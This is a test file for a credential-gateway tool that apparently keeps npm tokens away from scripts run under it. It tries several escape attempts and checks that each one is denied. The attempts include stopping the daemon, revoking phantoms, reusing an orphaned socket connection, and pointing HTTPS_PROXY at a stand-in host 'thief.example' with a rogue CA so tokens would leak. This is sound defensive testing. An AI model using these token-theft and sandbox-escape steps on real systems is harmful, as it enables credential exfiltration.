/** What a script inside of a command that goes through the gateway tries, to get at the token or further than the command. */
import { readFileSync, writeFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Status } from "../../../../src/core/views/status.ts";
import { renderRequest } from "../../../../src/core/wire/wire.ts";
import { BIN, expectDone, makeHome, type TestHome } from "../../../fixtures/homes/home.ts";
import { makeTls, serveTls, type TestTls } from "../../../fixtures/network/tls.ts";

const SECRET = "the-real-token-of-npm";
const TOOLKEY = `'${join(BIN, "toolkey")}'`;
const DENIED = "not answered inside of sh: what a sealed command starts can use tokens, but gets none";

let tls: TestTls;
let server: Awaited<ReturnType<typeof serveTls>>;
let url: string;
let home: TestHome;
let project: string;
let seen: string[] = [];

beforeAll(async () => {
  tls = await makeTls();
  server = await serveTls(tls, (incoming, response) => {
    seen.push(`${incoming.method ?? ""} ${incoming.headers.authorization ?? ""}`);
    response.end("well");
  });
  url = `${server.origin}/`;
});
beforeEach(async () => {
  seen = [];
  home = await makeHome();
  await home.init(tls.caFile);
  await home.addToken("npm", url, SECRET);
  project = join(home.directory, "project");
  await mkdir(project);
  writeFileSync(join(home.directory, ".npmrc"), `registry=${url}\n`);
});
afterEach(() => home.dispose());
afterAll(async () => {
  await server.close();
  await tls.remove();
});

const inside = (script: string) => home.toolkey(["run", "--tool", "npm", "--", "sh", "-c", `true; ${script}`], { cwd: project, env: { NODE_EXTRA_CA_CERTS: tls.caFile } });
const hook = (): string => `'${join(BIN, "toolkey-authorization")}' npm '${url}'`;

describe("a script gets no token", () => {
  it.each([
    ["by ending the phantom first", () => `${TOOLKEY} revoke --phantoms; ${hook()}`],
    ["by ending the phantom and the daemon first", () => `${TOOLKEY} revoke --phantoms; ${TOOLKEY} stop; ${hook()}`],
    ["by ending the daemon first", () => `${TOOLKEY} stop; ${hook()} & ${hook()} & ${hook()}; wait`],
    ["by a new key for the vault", () => `${TOOLKEY} init --rekey --key file`],
  ])("%s", async (_how, script) => {
    const { stdout, stderr } = await inside(script());
    expect(stdout + stderr).not.toContain(SECRET);
    expect(stderr).toContain(DENIED);
  });

  it("by having the files put back that import took it from", async () => {
    const file = join(home.directory, ".npmrc");
    writeFileSync(file, `registry=${url}\n//${new URL(url).host}/:_authToken=in-a-file-once\n`);
    expectDone(await home.toolkey(["import", "--yes"]));
    expect(readFileSync(file, "utf8")).not.toContain("in-a-file-once");
    expect((await inside(`${TOOLKEY} import --undo`)).stderr).toContain(DENIED);
    expect(readFileSync(file, "utf8")).not.toContain("in-a-file-once");
    expectDone(await home.toolkey(["import", "--undo"]));
    expect(readFileSync(file, "utf8")).toContain("in-a-file-once");
  });

  it("by a connection of a process that has ended", async () => {
    const request = join(home.directory, "request");
    writeFileSync(request, renderRequest({ tool: "npm", operation: "authorization", payload: url }));
    const [opener, asker, told] = ["opener.mjs", "asker.mjs", "told"].map((name) => join(home.directory, name));
    writeFileSync(opener ?? "", `
      import { spawn } from "node:child_process";
      import { connect } from "node:net";
      const socket = connect(${JSON.stringify(join(home.toolkeyHome, "data", "run", "agent.sock"))}, () => {
        spawn(process.execPath, [${JSON.stringify(asker)}, String(process.pid)], { stdio: [socket, "ignore", "inherit"] }).once("spawn", () => process.exit());
      });`);
    writeFileSync(asker ?? "", `
      import { readFileSync, writeFileSync } from "node:fs";
      import { Socket } from "node:net";
      const opener = Number(process.argv[2]);
      const wait = setInterval(() => {
        if (process.ppid === opener) return;
        clearInterval(wait);
        const socket = new Socket({ fd: 0 });
        let text = "";
        socket.on("data", (chunk) => (text += chunk)).on("close", () => writeFileSync(${JSON.stringify(told)}, text));
        socket.end(readFileSync(${JSON.stringify(request)}));
      }, 10);`);
    // It waits for all that hold its pipe: the asker is the last.
    await inside(`'${process.execPath}' '${opener ?? ""}' 2>&1 | cat >&2`);
    expect(readFileSync(told ?? "", "utf8")).toContain(DENIED);
  });
});

describe("a script", () => {
  it("gives the daemon no proxy and no certificates of its own: the tokens would go that way", async () => {
    const evil = "HTTPS_PROXY=http://thief.example:1 NODE_EXTRA_CA_CERTS=/tmp/thief.pem";
    const { stdout } = await inside(`${evil} ${TOOLKEY} status --json`);
    const { session } = JSON.parse(stdout) as Status;
    expect(session.certificates).toBe(tls.caFile);
    expect(JSON.stringify(session)).not.toContain("thief");
  });
});

describe("a command that a script starts", () => {
  it.each([
    ["to read", ""],
    ["to publish", "--publish"],
    ["directly", "--direct"],
  ])("gets no phantom and no token %s, whatever its environment, also after a revocation", async (_what, option) => {
    const asks = `env -u npm_config_registry -u npm_config_userconfig ${TOOLKEY} run --tool npm ${option} -- sh -c 'true; cat "$npm_config_userconfig$NPM_CONFIG_USERCONFIG"' publish`;
    const { stdout, stderr } = await inside(`${asks}; ${TOOLKEY} revoke --phantoms >&2; ${asks}`);
    expect(stdout).toBe("");
    // The revocation, too.
    expect(stderr.split(DENIED)).toHaveLength(4);
    expect(seen).toEqual([]);
  });
});
